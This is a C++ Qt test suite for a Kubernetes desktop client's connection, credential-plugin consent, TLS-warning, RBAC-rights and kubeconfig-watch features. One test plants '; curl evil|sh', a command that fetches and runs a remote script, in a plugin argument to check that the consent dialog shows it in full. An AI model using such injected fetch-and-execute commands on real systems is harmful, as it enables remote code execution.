// SPDX-License-Identifier: Apache-2.0
#include <QLineEdit>
#include <QMenu>
#include <QPlainTextEdit>
#include <QProgressBar>
#include <QPushButton>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtTest>
#include <cstdio>

#include "tests/ui/window_fixture.h"
#include "ui/bridge/kubeconfig_watch.h"
#include "ui/i18n/access_texts.h"
#include "ui/i18n/changes/rights_texts.h"
#include "ui/i18n/connection/connection_texts.h"
#include "ui/i18n/errors/error_texts.h"
#include "ui/i18n/format.h"
#include "ui/i18n/plain.h"
#include "ui/pages/edit/delete_dialog.h"
#include "ui/pages/edit/placement_dialog.h"
#include "ui/pages/shell/bars/source_menu.h"
#include "ui/pages/shell/bars/status_line.h"
#include "ui/pages/shell/bars/top_bar.h"
#include "ui/pages/shell/dialogs/access_dialog.h"
#include "ui/pages/shell/dialogs/connection_dialog.h"
#include "ui/pages/shell/dialogs/namespaces_dialog.h"
#include "ui/session/connection_view.h"
#include "ui/widgets/basic/badge.h"
#include "ui/widgets/lists/navigation_list.h"

using namespace cardinal;
using namespace cardinal::ui;
using cardinal::test::WindowFixture;

/// What the window shows of plugins, rights, the kubeconfig on disk and the connection.
class tst_connection : public QObject {
  Q_OBJECT

  std::unique_ptr<WindowFixture> m_fixture;
  ClusterView* m_window = nullptr;

  static QPushButton* button(QWidget& in, const QString& text) {
    for (QPushButton* one : in.findChildren<QPushButton*>()) {
      if (one->text().contains(text) && one->isVisible()) return one;
    }
    return nullptr;
  }
  void tell(const ConnectionState& state) {
    const MutexLock lock(m_fixture->script->mutex);
    m_fixture->script->sink->onConnection(state);
  }
  QProgressBar* visibleBar() const {
    for (QProgressBar* bar : m_window->findChildren<QProgressBar*>()) {
      if (bar->isVisible()) return bar;
    }
    return nullptr;
  }
  static ConnectionState live() {
    ConnectionState state;
    state.phase = ConnectionPhase::Live;
    state.lastContact = 1'700'000'000;
    return state;
  }

 private slots:
  void init() {
    m_fixture = std::make_unique<WindowFixture>();
    m_window = &m_fixture->opened();
    QVERIFY(m_fixture->bridge().isFresh());
    QCOMPARE(m_fixture->bridge().snapshot()->nodes.size(), std::size_t{4});
  }
  void cleanup() {
    m_preview.reset();
    m_fixture.reset();
  }

  static AccessSummary mailed() {
    AccessSummary summary;
    summary.context = "prod";
    summary.file = "/home/me/mailed.yaml";
    summary.server = "https://10.0.0.1:6443";
    summary.signIn = {SignIn::Plugin};
    summary.plugin = PluginCall{"aws", "/usr/bin/aws", {"eks", "get-token <b>x</b>"}, {"LD_PRELOAD"}};
    return summary;
  }

  void aPluginIsAskedAboutWithEverythingThatWouldRun() {
    AccessSummary summary = mailed();
    summary.plugin->arguments.push_back(std::string(2000, 'x') + "; curl evil|sh");
    for (int i = 0; i < 60; ++i) summary.plugin->arguments.push_back("--flag-" + std::to_string(i));
    bool allowed = false;
    m_window->askAccess(summary, [&allowed] { allowed = true; });
    QTRY_VERIFY(m_window->findChild<AccessDialog*>() && m_window->findChild<AccessDialog*>()->isVisible());
    AccessDialog& dialog = *m_window->findChild<AccessDialog*>();
    const QString texts = WindowFixture::visibleTexts(dialog);
    QVERIFY2(texts.contains(QStringLiteral("https://10.0.0.1:6443")), "where the credential goes");
    QVERIFY2(texts.contains(QStringLiteral("by the certificates of this machine")), "how the server is known");
    QVERIFY(texts.contains(QStringLiteral("LD_PRELOAD")));
    const QString command = dialog.findChild<QPlainTextEdit*>()->toPlainText();
    QVERIFY(command.contains(QStringLiteral("/usr/bin/aws")));
    QVERIFY2(command.contains(QStringLiteral("get-token <b>x</b>")), "plain text, whatever the file says");
    QVERIFY2(command.contains(QStringLiteral("x; curl evil|sh")), "no argument is cut");
    QVERIFY2(command.contains(QStringLiteral("--flag-59")), "no argument is left out");
    QVERIFY2(dialog.height() <= 900, "a long command line scrolls");
    QTRY_VERIFY2(button(dialog, QStringLiteral("Do not connect"))->hasFocus(), "the safe answer is the easy one");
    QVERIFY(!allowed);
    QTest::mouseClick(button(dialog, QStringLiteral("Allow and connect")), Qt::LeftButton);
    QVERIFY(allowed);
  }

  void aShortCommandLineTakesNoMoreRoomThanItNeeds() {
    m_window->askAccess(mailed(), [] {});
    QTRY_VERIFY(m_window->findChild<AccessDialog*>() && m_window->findChild<AccessDialog*>()->isVisible());
    AccessDialog& dialog = *m_window->findChild<AccessDialog*>();
    const auto* command = dialog.findChild<QPlainTextEdit*>();
    QTRY_VERIFY(command->height() < 8 * command->fontMetrics().lineSpacing());
    QVERIFY2(command->viewport()->height() >= 3 * command->fontMetrics().lineSpacing(), "program and two arguments");
    dialog.reject();
  }

  void theTimeOfASavedStateFitsTheBar() {
    ConnectionState saved;
    saved.phase = ConnectionPhase::Static;
    const ConnectionView view = connectionView(saved, 1'700'000'100, 1'700'000'000);
    static const QRegularExpression kMinute(QStringLiteral("^\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d$"));
    QVERIFY2(kMinute.match(view.detail).hasMatch(), qPrintable(view.detail));
    QVERIFY2(view.sentence.contains(dateTime(1'700'000'000)), qPrintable(view.sentence));
  }

  void aWindowWithoutAClusterCountsNothingAndOffersToChooseOne() {
    SystemClock clock;
    SnapshotBridge bridge(clock);
    ClusterView window(m_fixture->theme(), m_fixture->language(), bridge, WindowSettings());
    window.resize(1280, 800);
    window.show();
    auto* status = window.findChild<StatusLine*>();
    QVERIFY2(!status->accessibleName().contains(u'0'), qPrintable(status->accessibleName()));
    QVERIFY(window.findChild<NavigationList*>()->count(QStringLiteral("nodes")).isEmpty());
    QPushButton* choose = button(window, QStringLiteral("Choose a cluster"));
    QVERIFY2(choose, qPrintable(WindowFixture::visibleTexts(window)));
    QTest::mouseClick(choose, Qt::LeftButton);
    QTRY_VERIFY(qobject_cast<QMenu*>(QApplication::activePopupWidget()));
    QApplication::activePopupWidget()->close();
  }

  void aServerThatIsNotCheckedIsAskedAboutInBothLanguages() {
    AccessSummary summary = mailed();
    summary.plugin.reset();
    summary.signIn = {SignIn::TokenFile};
    summary.tokenFile = "/home/me/.other/token";
    summary.outside = {{"tokenFile", summary.tokenFile}};
    summary.sendsTokenOfOutside = true;
    summary.trust = ServerTrust::NotChecked;
    summary.proxy = "http://proxy:3128";
    bool allowed = false;
    m_window->askAccess(summary, [&allowed] { allowed = true; });
    QTRY_VERIFY(m_window->findChild<AccessDialog*>() && m_window->findChild<AccessDialog*>()->isVisible());
    AccessDialog& dialog = *m_window->findChild<AccessDialog*>();
    const QString texts = WindowFixture::visibleTexts(dialog);
    for (const char* words : {"not checked (insecure-skip-tls-verify)", "tokenFile: /home/me/.other/token",
                              "never remembered", "http://proxy:3128", "without checking the server?"}) {
      QVERIFY2(texts.contains(QString::fromLatin1(words)), words);
    }
    QTest::mouseClick(button(dialog, QStringLiteral("Do not connect")), Qt::LeftButton);
    QVERIFY(!allowed);
    m_fixture->language().setCode(QStringLiteral("zh_CN"));
    for (const AccessFact& fact : accessFacts(summary)) {
      const bool ascii = std::all_of(fact.key.begin(), fact.key.end(), [](QChar c) { return c.unicode() < 128; });
      QVERIFY2(!ascii, qPrintable(fact.key));
    }
    m_fixture->language().setCode(QStringLiteral("en"));
  }

  void aServerThatIsNotCheckedHasARedBadgeAsLongAsItIsLookedAt() {
    const auto badge = [this] {
      for (Badge* one : m_window->findChildren<Badge*>()) {
        if (one->isVisible() && one->text() == QStringLiteral("TLS not checked")) return one;
      }
      return static_cast<Badge*>(nullptr);
    };
    QVERIFY(!badge());
    QVERIFY(!m_window->tabFacts().isInsecure);
    m_window->setServerUnchecked(true);
    QTRY_VERIFY(badge());
    QVERIFY(m_window->tabFacts().isInsecure);
    for (const ThemeKind kind : {ThemeKind::Light, ThemeKind::Contrast, ThemeKind::Dark}) {
      m_fixture->theme().setKind(kind);
      const QImage shown = badge()->grab().toImage();
      const QColor critical = m_fixture->theme().tokens().critical;
      QCOMPARE(shown.pixelColor(shown.width() / 2, 2).rgb(), critical.rgb());
    }
    const Error error = makeError(ErrorCode::NotConnected, "scripted");
    m_fixture->script->connection(ConnectionPhase::Failed, &error);
    QTRY_COMPARE(m_window->tabFacts().state, StateRole::Critical);
    QVERIFY2(badge(), "a lost connection does not make it safe");
    m_fixture->language().setCode(QStringLiteral("zh_CN"));
    QTRY_VERIFY(!badge());
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("未校验 TLS")));
    m_fixture->language().setCode(QStringLiteral("en"));
    m_window->setServerUnchecked(false);
    QVERIFY(!badge());
  }

  void whatMattersMostOfTheConnectionStandsAboveThePages() {
    ConnectionState state;
    state.phase = ConnectionPhase::Live;
    QVERIFY(!connectionNotice(state));
    QVERIFY(!connectionEmptiness(state));
    state.clockOffset = 40;
    QCOMPARE(connectionNotice(state)->role, StateRole::Warning);
    state.scope = "team-a,team-b";
    state.refusedNamespaces = {"team-c", "team-d"};
    state.nodesVisible = false;
    const auto partial = connectionNotice(state);
    QCOMPARE(partial->role, StateRole::Information);
    QCOMPARE(partial->detail,
             QStringLiteral("Nodes and their cards are hidden from you. Not permitted: pods of team-c, team-d. ") +
                 clockText(40));
    QVERIFY(!connectionEmptiness(state) && hiddenNodes(state)->mayRetry);
    state.phase = ConnectionPhase::Failed;
    state.error = makeError(ErrorCode::NotConnected, "scripted");
    QCOMPARE(connectionNotice(state)->text, errorText(*state.error));
    QCOMPARE(connectionEmptiness(state)->cause, errorText(*state.error));
    state.waitingFor = "kubelogin";
    QVERIFY2(connectionNotice(state)->text.contains(QStringLiteral("kubelogin")), "it can be stopped only from here");
  }

  void howMuchIsLoadedIsTheSameInTheBarAndOnEmptyPages() {
    ConnectionState state;
    state.phase = ConnectionPhase::Loading;
    state.nodesLoaded = 500;
    state.nodesToCome = 700;
    state.podsLoaded = 20;
    const ConnectionView view = connectionView(state, 1000, 0);
    const auto emptiness = connectionEmptiness(state);
    QVERIFY(view.isBusy && view.detail.contains(QStringLiteral("500 of 1,200")));
    QVERIFY(emptiness->cause.contains(QStringLiteral("500 of 1,200")));
    QCOMPARE(view.progress, emptiness->progress);
  }

  void theConnectionSaysThatItsServerIsNotChecked() {
    const QString words = QStringLiteral("not checked (insecure-skip-tls-verify)");
    for (const bool unchecked : {false, true}) {
      m_window->setServerUnchecked(unchecked);
      emit m_window->findChild<TopBar*>()->connectionRequested();
      auto* dialog = m_window->findChild<ConnectionDialog*>();
      QTRY_VERIFY(dialog != nullptr && dialog->isVisible());
      QCOMPARE(WindowFixture::visibleTexts(*dialog).contains(words), unchecked);
      delete dialog;
    }
  }

  void aPluginThatIsWaitedForIsNamedAndCanBeStopped() {
    ConnectionState state = live();
    state.waitingFor = "/usr/bin/aws";
    tell(state);
    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(
        QStringLiteral("Waiting for the credential plugin /usr/bin/aws")));
    QVERIFY(button(*m_window, QStringLiteral("Stop waiting")));
    tell(live());
    QTRY_VERIFY(!button(*m_window, QStringLiteral("Stop waiting")));
  }

  void namespacesThatAreSeenAndThoseThatAreNotAreNamed() {
    ConnectionState state = live();
    state.scope = "team-a, team-b";
    state.refusedNamespaces = {"team-c"};
    tell(state);
    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(
        QStringLiteral("You can see the namespaces team-a, team-b only")));
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Not permitted: pods of team-c.")));
  }

  void listsThatAreReadInsteadOfAWatchAreShown() {
    ConnectionState state = live();
    state.polledLists = 1;
    tell(state);
    QTRY_COMPARE(m_fixture->bridge().connection().polledLists, 1);
    ConnectionDialog dialog(pageContext(), false, m_window);
    dialog.open();
    QVERIFY(WindowFixture::visibleTexts(dialog).contains(QStringLiteral("Without a watch")));
  }

  void loadingShowsHowMuchOfItIsHere() {
    m_fixture->script->first.clear();
    m_fixture->script->firstPhase = ConnectionPhase::Connecting;
    m_window = &m_fixture->open();
    ConnectionState state;
    state.phase = ConnectionPhase::Loading;
    state.nodesLoaded = 500;
    tell(state);
    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("500 nodes and 0 pods so far")));
    QVERIFY2(!visibleBar(), "the server did not tell how many there are");
    state.nodesToCome = 1500;
    tell(state);
    QTRY_VERIFY(
        WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("500 of 2,000 nodes and 0 pods so far")));
    QVERIFY(visibleBar());
    QCOMPARE(visibleBar()->value() * 4, visibleBar()->maximum());
    state.nodesLoaded = 2000;
    state.nodesToCome = 0;
    state.podsLoaded = 100;
    state.podsToCome = 100;
    tell(state);
    QTRY_VERIFY(
        WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("2,000 nodes and 100 of 200 pods so far")));
    QCOMPARE(visibleBar()->value() * 2, visibleBar()->maximum());
    tell(live());
    QTRY_VERIFY(!visibleBar());
  }

  void whatShouldBePutRightIsReportedOnceAndStaysInTheDialog() {
    ConnectionState state = live();
    state.cautions = {{CautionCode::KubeconfigExposed, "/home/me/.kube/config", "0644"}};
    const auto timesShown = [this] {
      return WindowFixture::visibleTexts(*m_window).count(QStringLiteral("/home/me/.kube/config"));
    };
    tell(state);
    QTRY_VERIFY(timesShown() > 0);
    const auto first = timesShown();
    ++state.watchesOpen;
    tell(state);
    QTRY_COMPARE(m_fixture->bridge().connection().watchesOpen, state.watchesOpen);
    QCOMPARE(timesShown(), first);
    ConnectionDialog dialog(pageContext(), false, m_window);
    dialog.open();
    const QString texts = WindowFixture::visibleTexts(dialog);
    QVERIFY(texts.contains(QStringLiteral("/home/me/.kube/config")));
    QVERIFY(texts.contains(QStringLiteral("0644")));
    QVERIFY2(texts.contains(QStringLiteral("chmod 600")), "with what helps");
  }

  void namespacesAreTypedCheckedAndRemembered() {
    NamespacesDialog dialog(m_fixture->theme(), QStringLiteral("team-a"), m_window);
    QSignalSpy chosen(&dialog, &NamespacesDialog::chosen);
    dialog.open();
    QPushButton* use = button(dialog, QStringLiteral("Look at these"));
    QVERIFY(use);
    dialog.field()->setText(QStringLiteral("team-a Team_B"));
    QVERIFY2(WindowFixture::visibleTexts(dialog).contains(QStringLiteral("Team_B")),
             "the word that cannot be a name is named");
    QTest::mouseClick(use, Qt::LeftButton);
    QCOMPARE(chosen.count(), 0);
    dialog.field()->setText(QStringLiteral(" team-a team-b"));
    QTest::mouseClick(use, Qt::LeftButton);
    QCOMPARE(chosen.count(), 1);
    QCOMPARE(chosen.first().first().toString(), QStringLiteral("team-a, team-b"));
    QTemporaryDir folder;
    const QString file = folder.filePath(QStringLiteral("cardinal.ini"));
    SourceInfo prod;
    prod.name = "prod";
    prod.server = "10.0.0.1:6443";
    SourceInfo other = prod;
    other.name = "test";
    {
      WindowSettings settings(file);
      rememberNamespaces(settings, prod, QStringLiteral("team-a, team-b"));
    }
    QCOMPARE(rememberedNamespaces(WindowSettings(file), prod), QStringLiteral("team-a, team-b"));
    QVERIFY2(rememberedNamespaces(WindowSettings(file), other).isEmpty(), "of that context only");
  }

  void whatIsNotAllowedIsNotOfferedAndSaysWhy() {
    const SnapshotPtr state = m_fixture->bridge().snapshot();
    const SourceInfo source = m_fixture->bridge().info();
    Rights rights;
    QVERIFY2(placementRefusal(*state->nodes[0], source, true, rights).isEmpty(), "not known is no refusal");
    rights.note(Feature::PatchNodes, {}, Permission::Denied);
    QVERIFY(placementRefusal(*state->nodes[0], source, true, rights).contains(QStringLiteral("patch nodes")));
  }

  void whatIsNotAllowedInOneNamespaceIsOfferedInAnother() {
    Rights rights("team");
    rights.note(Feature::CreateJobs, "team", Permission::Allowed);
    rights.note(Feature::CreateJobs, "others", Permission::Denied);
    QVERIFY2(rightsRefusal(rights, Feature::CreateJobs).isEmpty(), "the context's namespace is meant");
    QVERIFY(rightsRefusal(rights, Feature::CreateJobs, "others").contains(QStringLiteral("in the namespace others")));
    QVERIFY2(rightsRefusal(rights, Feature::CreateJobs, "third").isEmpty(), "not known is no refusal");
    rights.note(Feature::DeleteDeployments, "others", Permission::Denied);
    const CreatedRef here{"apps/v1", "Deployment", {"team", "app"}, "u1"};
    const CreatedRef there{"apps/v1", "Deployment", {"others", "app"}, "u2"};
    QVERIFY(deleteRefusal(rights, {here}).isEmpty());
    QVERIFY(deleteRefusal(rights, {here, there}).contains(QStringLiteral("delete deployments")));
  }

  void theConnectionNamesTheNamespacesOfEachRight() {
    ConnectionState state = live();
    state.rights = Rights("team-a");
    state.rights.note(Feature::PatchNodes, {}, Permission::Denied);
    state.rights.note(Feature::CreatePods, {}, Permission::Allowed);
    state.rights.note(Feature::CreateJobs, {}, Permission::Denied);
    state.rights.note(Feature::CreateJobs, "team-a", Permission::Allowed);
    state.rights.note(Feature::CreateJobs, "team-b", Permission::Denied);
    state.rights.note(Feature::CreateJobs, "team-c", Permission::Denied);
    tell(state);
    QTRY_VERIFY(m_fixture->bridge().connection().rights.denied(Feature::PatchNodes));
    ConnectionDialog dialog(pageContext(), false, m_window);
    dialog.open();
    const QString texts = WindowFixture::visibleTexts(dialog);
    QVERIFY(texts.contains(QStringLiteral("create jobs: allowed in 1 namespace: team-a")));
    QVERIFY(texts.contains(QStringLiteral("create jobs: denied in 2 namespaces: team-b, team-c")));
    QVERIFY(texts.contains(QStringLiteral("create pods: allowed;")));
    QVERIFY(texts.contains(QStringLiteral("patch nodes: denied; a click copies")));
    QVERIFY2(!texts.contains(QStringLiteral("services/proxy")), "metrics are not read through the API server");
  }

  void whoMayOnlyReadIsNotShownThatTheyCanWrite() {
    ConnectionState state = live();
    tell(state);
    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Read-write")));
    state.rights = Rights("team");
    for (std::size_t i = 0; i < kFeatures; ++i) {
      const auto feature = static_cast<Feature>(i);
      state.rights.note(feature, {}, Permission::Denied);
      if (ruleOf(feature).place == RightPlace::Namespace) state.rights.note(feature, "team", Permission::Denied);
    }
    tell(state);
    QTRY_VERIFY(!WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Read-write")));
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Read-only")));
    state.rights.note(Feature::CreateJobs, "team-b", Permission::Unknown);
    tell(state);
    QTRY_VERIFY2(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Read-write")),
                 "what is not known is offered");
  }

  void theConnectionIsShownWithItsErrorAndFollows() {
    QVERIFY(m_fixture->bridge().isOpen());
    auto* dialog = new ConnectionDialog(pageContext(), false, m_window);
    dialog->open();
    ConnectionState state = live();
    state.phase = ConnectionPhase::Failed;
    state.error =
        makeError(ErrorCode::PluginFailed, "aws", "users[u].exec (/k/config)", "it ended with exit code 7: log in");
    tell(state);
    QTRY_VERIFY(WindowFixture::visibleTexts(*dialog).contains(QStringLiteral("exit code 7: log in")));
    QVERIFY(button(*dialog, QStringLiteral("Test again")));
    tell(live());
    QTRY_VERIFY(!WindowFixture::visibleTexts(*dialog).contains(QStringLiteral("exit code 7")));
    dialog->close();
  }

  void whoHasNoUserIsOfferedToConnectAnonymously() {
    std::vector<SourceChoice> opened;
    SourceActions actions;
    actions.contexts = [] { return std::vector<ContextInfo>{{"nobody", "c", "10.0.0.1:6443", "", "", false}}; };
    actions.open = [&opened](const SourceChoice& choice) -> Result<void> {
      opened.push_back(choice);
      if (choice.anonymous) return {};
      return unexpected(makeError(ErrorCode::UserMissing, "contexts[nobody].user", "/k/config", "no user"));
    };
    m_window->setSourceActions(actions);
    m_window->findChild<SourceMenu*>()->popup(QPoint());
    QMenu* menu = m_window->findChild<QMenu*>();
    QVERIFY(menu);
    menu->actions().first()->trigger();
    menu->close();
    QCOMPARE(opened.size(), std::size_t{1});
    QVERIFY2(!opened.front().anonymous, "never by itself");
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("contexts[nobody].user")));
    QPushButton* anonymously = button(*m_window, QStringLiteral("Connect anonymously"));
    QVERIFY(anonymously);
    QTest::mouseClick(anonymously, Qt::LeftButton);
    QCOMPARE(opened.size(), std::size_t{2});
    QVERIFY(opened.back().anonymous);
    QCOMPARE(opened.back().context, std::optional<std::string>("nobody"));
    QVERIFY(!button(*m_window, QStringLiteral("Connect anonymously")));
  }

  void aBrokenCredentialIsNoReasonToConnectAnonymously() {
    m_window->showOpenError(makeError(ErrorCode::CredentialInvalid, "users[u].token", "/k/config", "empty token"),
                            [] {});
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("users[u].token")));
    QVERIFY(!button(*m_window, QStringLiteral("Connect anonymously")));
  }

  void aChangedKubeconfigIsReportedAndNothingIsSwitched() {
    bool reconnected = false;
    m_window->showKubeconfigChange(std::nullopt, [&reconnected] { reconnected = true; });
    QPushButton* reconnect = button(*m_window, QStringLiteral("Reconnect"));
    QVERIFY(reconnect);
    QVERIFY(!reconnected);
    QTest::mouseClick(reconnect, Qt::LeftButton);
    QVERIFY(reconnected);
    QVERIFY(!button(*m_window, QStringLiteral("Reconnect")));
    m_window->showKubeconfigChange(makeError(ErrorCode::KubeconfigInvalid, "YAML", "/k/config"), [] {});
    QVERIFY2(!button(*m_window, QStringLiteral("Reconnect")), "there is nothing to reconnect to");
    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("cannot be used as it is now")));
    m_window->hideKubeconfigChange();
    QVERIFY(!WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("cannot be used as it is now")));
  }

  void aFileThatIsReplacedIsNoticed() {
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("config"));
    const auto write = [&](const QString& to, const char* text) {
      QFile file(to);
      QVERIFY(file.open(QIODevice::WriteOnly));
      file.write(text);
    };
    write(path, "one");
    KubeconfigWatch watch;
    watch.setFiles({path.toStdString()});
    QSignalSpy spy(&watch, &KubeconfigWatch::changed);
    write(folder.filePath(QStringLiteral("new")), "two");
    QVERIFY(QFile::remove(path));
    QVERIFY(QFile::rename(folder.filePath(QStringLiteral("new")), path));
    QTRY_COMPARE_WITH_TIMEOUT(spy.count(), 1, 10'000);
    write(path, "three");
    QTRY_COMPARE_WITH_TIMEOUT(spy.count(), 2, 10'000);
  }

  /// The path leads through a link of another folder, so that nobody sends an event, as on a network mount.
  void aFileIsLookedAtWhereNoEventComes() {
    QTemporaryDir folder;
    const QDir root(folder.path());
    const auto write = [&](const QString& name, const char* text) {
      QFile file(root.filePath(name));
      QVERIFY(file.open(QIODevice::WriteOnly));
      file.write(text);
    };
    const auto lead = [&](const QString& version) {
      QVERIFY(QFile::link(root.filePath(version), root.filePath(QStringLiteral("mount/next"))));
      QCOMPARE(std::rename(qPrintable(root.filePath(QStringLiteral("mount/next"))),
                           qPrintable(root.filePath(QStringLiteral("mount/now")))),
               0);
    };
    for (const char* name : {"mount", "home", "one", "two"}) QVERIFY(root.mkdir(QString::fromLatin1(name)));
    write(QStringLiteral("one/config"), "one");
    write(QStringLiteral("two/config"), "two");
    lead(QStringLiteral("one"));
    const QString path = root.filePath(QStringLiteral("home/config"));
    QVERIFY(QFile::link(root.filePath(QStringLiteral("mount/now/config")), path));
    KubeconfigWatch watch(nullptr, std::chrono::milliseconds(20));
    watch.setFiles({path.toStdString()});
    QSignalSpy spy(&watch, &KubeconfigWatch::changed);
    lead(QStringLiteral("two"));
    QTRY_COMPARE_WITH_TIMEOUT(spy.count(), 1, 10'000);
    lead(QStringLiteral("one"));
    QTRY_COMPARE_WITH_TIMEOUT(spy.count(), 2, 10'000);
  }

  void bothValuesOfAConflictAreNamed() {
    Error error = makeError(ErrorCode::Conflict, "nodes/a", "cluster", "words");
    error.causes = {{"mode", kTheirs, "spread"}, {"mode", kSeen, ""}, {"mode", kYours, "binpack"}};
    const QString text = errorText(error);
    QVERIFY(text.contains(QStringLiteral("\"spread\"")));
    QVERIFY(text.contains(QStringLiteral("\"binpack\"")));
    QVERIFY(text.contains(QStringLiteral("(no value)")));
  }

  void everyCauseOfARefusalIsNamed() {
    Error error = makeError(ErrorCode::Invalid, "Pod/p", "spec.a", "two things");
    error.causes = {{"spec.a", "FieldValueInvalid", "bad"}, {"spec.b", "FieldValueRequired", "missing"}};
    QVERIFY(errorText(error).contains(QStringLiteral("spec.b: missing")));
  }

 private:
  PageContext pageContext();
  SelectionState m_selection;
  std::unique_ptr<PreviewController> m_preview;
};

PageContext tst_connection::pageContext() {
  m_preview = std::make_unique<PreviewController>(m_fixture->bridge());
  return {m_fixture->theme(), m_fixture->bridge(), m_selection, *m_preview, WindowSettings()};
}

QTEST_MAIN(tst_connection)
#include "tst_connection.moc"
